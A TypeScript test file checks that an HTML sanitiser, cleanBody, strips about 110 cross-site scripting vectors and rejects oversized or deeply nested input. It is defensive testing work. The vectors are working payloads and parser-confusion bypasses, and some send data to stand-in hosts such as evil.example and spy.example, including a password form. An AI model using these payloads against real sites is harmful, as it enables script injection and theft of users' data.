import { parseHTML } from 'linkedom';
import { describe, expect, test } from 'vitest';
import { cleanBody } from '../body.ts';

/** HTML that runs, loads or posts something, or tricks a sanitiser into allowing it. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<script>alert(1)',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<IMG SRC=x OnErRoR\n=\nalert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="https://e.org/a.png" srcset="javascript:alert(1) 1x">',
  '<img longdesc="javascript:alert(1)" usemap="#m" src="/a.png">',
  '<body onload=alert(1)>x',
  '<p onclick="alert(1)">x</p>',
  '<p ONMOUSEOVER=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://e.org/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://e.org" target="_top" ping="https://spy.example">x</a>',
  '<area href="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><maction actiontype="statusline#http://e.org" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#y)">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<span style="color:red;background-color:url(https://spy.example)">x</span>',
  '<span style="color:expression(alert(1))">x</span>',
  '<span style="color:var(--x,url(https://spy.example))">x</span>',
  '<p style="text-align:center;\\62 ackground:url(https://spy.example)">x</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x.class"></applet>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<input type="image" src="javascript:alert(1)">',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea/>',
  '<select autofocus onfocus=alert(1)><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<template><script>alert(1)</script></template>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><style></noframes><img src=x onerror=alert(1)></style>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo "<script>"; ?><img src=x onerror=alert(1)>',
  '<h1 id="x" onclick=alert(1)>x</h1>',
  '<h2 id="&quot; onmouseover=&quot;alert(1)">x</h2>',
  '<a title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" href="/x">x</a>',
  '<img alt="&quot; onerror=&quot;alert(1)" src="/x.png">',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<table><caption><img src=x onerror=alert(1)>&lt;script&gt;alert(1)&lt;/script&gt;</caption><tr><td>x</td></tr></table>',
  '<pre><code class="language-js&quot; onclick=&quot;alert(1)">&lt;script&gt;</code></pre>',
  '<sup class="footnote-ref"><a href="javascript:alert(1)" id="fnref1">&lt;script&gt;</a></sup>',
  '<a class="footnote-backref" href="#x&quot; onclick=&quot;alert(1)">↩</a>',
  '<span lang="en&quot; onclick=&quot;alert(1)" dir="x">x</span>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<custom-element onclick=alert(1) is="x-y"><slot></slot></custom-element>',
  '<portal src="https://evil.example"></portal><frameset onload=alert(1)><frame src="javascript:alert(1)">',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<link rel="import" href="https://evil.example"><bgsound src="javascript:alert(1)">',
  '<div data-embed="x" contenteditable onblur=alert(1) style="all:unset">x</div>',
];

const HARMLESS =
  /^(?:p|h[1-6]|pre|code|ul|ol|li|blockquote|aside|dl|dt|dd|details|summary|hr|br|img|figure|figcaption|table|caption|thead|tbody|tr|td|th|section|a|span|ruby|rt|rp|q|cite|strong|em|u|s|mark|small|sub|sup|abbr|kbd)$/;
const HARMLESS_ATTRIBUTE =
  /^(?:id|class|style|href|title|src|alt|width|height|lang|dir|start|type|colspan|rowspan|scope|open|data-indent)$/;
const HARMLESS_URL = /^(?:https?:\/\/|mailto:|data:image\/(?:png|jpeg|webp|gif|avif);base64,|[^:]*$)/i;
const HARMLESS_STYLE = /^(?:(?:color|background-color|text-align):[\w#(),.% ]+;?)*$/;

function dangersIn(html: string): string[] {
  const { document } = parseHTML(`<!doctype html><html><body>${html}</body></html>`);
  return [...document.body.querySelectorAll('*')].flatMap((element) => [
    ...(HARMLESS.test(element.localName) ? [] : [element.localName]),
    ...[...element.attributes]
      .filter((it) => isDangerous(it.name, it.value))
      .map((it) => `${it.name}=${it.value}`),
  ]);
}

function isDangerous(name: string, value: string): boolean {
  if (name === 'href' || name === 'src') return !HARMLESS_URL.test(value);
  if (name === 'style') return !HARMLESS_STYLE.test(value) || /url|expression|var/.test(value);
  return !HARMLESS_ATTRIBUTE.test(name);
}

describe('removes everything dangerous from', () => {
  test.each(VECTORS)('%s', async (vector) => {
    for (const html of [
      vector,
      `<p>before ${vector} after</p>`,
      `<table><tr><td>${vector}</td></tr></table>`,
    ]) {
      const { html: cleaned } = await cleanBody(html);
      expect(dangersIn(cleaned)).toEqual([]);
      expect(cleaned).not.toMatch(/<!--|<\?|<!\[/);
      expect((await cleanBody(cleaned)).html).toBe(cleaned);
    }
  });

  test('the check itself finds dangers', () => {
    expect(dangersIn('<p onclick="x">a</p><a href="javascript:x">b</a><svg></svg>')).toHaveLength(3);
  });
});

describe('refuses too much HTML before cleaning it', () => {
  test.each([
    ['<div>'.repeat(200_000), 'nested too deeply'],
    ['<table><tr><td>'.repeat(60_000), 'nested too deeply'],
    [`<iframe>${'<b>'.repeat(300_000)}`, 'nested too deeply'],
    ['<iframe>'.repeat(100), 'nested frames'],
    ['<p>x</p>'.repeat(60_000), 'too many elements'],
  ])('%.12s', async (html, reason) => {
    await expect(cleanBody(html)).rejects.toMatchObject({
      code: 'invalid',
      message: expect.stringContaining(reason),
    });
  });

  test('length', async () => {
    await expect(cleanBody('x'.repeat(101), { limits: { length: 100 } })).rejects.toMatchObject({
      code: 'too_large',
    });
  });

  test('accepts HTML within the limits', async () => {
    const { html } = await cleanBody(`${'<div>'.repeat(90)}deep${'</div>'.repeat(90)}`);
    expect(html).toBe('<p>deep</p>');
  });
});
